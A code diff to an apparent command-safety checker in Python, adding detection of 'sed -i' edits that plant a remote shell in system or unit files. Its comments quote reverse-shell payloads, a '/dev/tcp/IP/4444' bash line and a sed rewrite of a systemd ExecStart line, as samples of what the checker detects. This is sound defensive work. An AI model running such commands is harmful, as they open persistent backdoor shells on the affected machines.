@@ -415,9 +415,44 @@ def _writes_files(invocation: Invocation, home: str) -> Verdict | None:
     """tee, sponge, truncate, shred, sed -i, perl -i, sort -o, a download (curl -o, wget -O, tftp -l ...)
     onto a system file; what tee writes, when it is a remote shell (:func:`_written_backdoor`)."""
     found = _system_file_written(invocation, home)
-    if found is None and invocation.name == "tee":
+    if found is None and invocation.name in ("tee", "sed"):
         return _written_backdoor(invocation, home)
     return found
+
+
+_SED_TEXT = lazy_compile(
+    r"^\s*(?:(?:\$|\d+|/[^/]*/)\s*)?(?:[aic]\\?\s*(?P<added>\S.*)|s(?P<d>[^\w\s\\])(?P<subst>.*))$", re.DOTALL
+)
+"""A sed command that puts text in: append, insert, change (``$a TEXT``, ``/^ExecStart=/c\\TEXT``) or a
+substitution (``s|^ExecStart=.*|TEXT|``)."""
+
+
+def _sed_written(invocation: Invocation) -> tuple[list[str], str | None]:
+    """The files ``sed -i`` edits and the text its commands put into them (a substitution's pattern too:
+    a remote shell is found in it all the same), or no text when it edits nothing in place."""
+    values = _values(invocation)
+    if not any(re.match(r"-[a-zA-Z]*i|--in-place", v) for v in values):
+        return [], None
+    scripts = [values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-e", "--expression")]
+    operands = [v for i, v in enumerate(values) if not v.startswith("-") and (i == 0 or values[i - 1] not in
+                ("-e", "--expression", "-f", "--file"))]  # fmt: skip
+    if not scripts and operands:
+        scripts.append(operands.pop(0))
+    texts: list[str] = []
+    for script in scripts:
+        match = _SED_TEXT.match(script)
+        if match is None:
+            continue
+        text = match.group("added")
+        if text is None:  # s|PATTERN|REPLACEMENT|FLAGS: what replaces (unescaped delimiters kept in it)
+            parts = re.split(rf"(?<!\\){re.escape(match.group('d'))}", match.group("subst"))
+            text = match.group("d").join(parts[1:-1] if len(parts) > 2 else parts[1:])
+        texts.append(_UNIT_KEY.sub("", text))
+    return operands, "\n".join(t for t in texts if t) or None
+
+
+_UNIT_KEY = lazy_compile(r"^[A-Za-z][\w-]*=(?=\S)", re.MULTILINE)
+"""A unit's or configuration's key (``ExecStart=``) before the command it gives."""
 
 
 def _system_file_written(invocation: Invocation, home: str) -> Verdict | None:
@@ -1230,6 +1265,8 @@ def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None)
         values = _values(invocation)
         targets = [v for v in values if not v.startswith("-")]
         text = "\n".join(fed_code(invocation)) or fed or None
+    elif invocation.name == "sed":  # sed -i "/^ExecStart=/c\\ExecStart=/bin/bash -c 'bash -i >& …'" UNIT
+        targets, text = _sed_written(invocation)
     elif invocation.name in _ENCODERS:  # echo 'bash -i >& /dev/tcp/IP/4444 0>&1' | base64: a payload made
         targets, text = [f"{invocation.name}'s encoded output"], fed
     else:
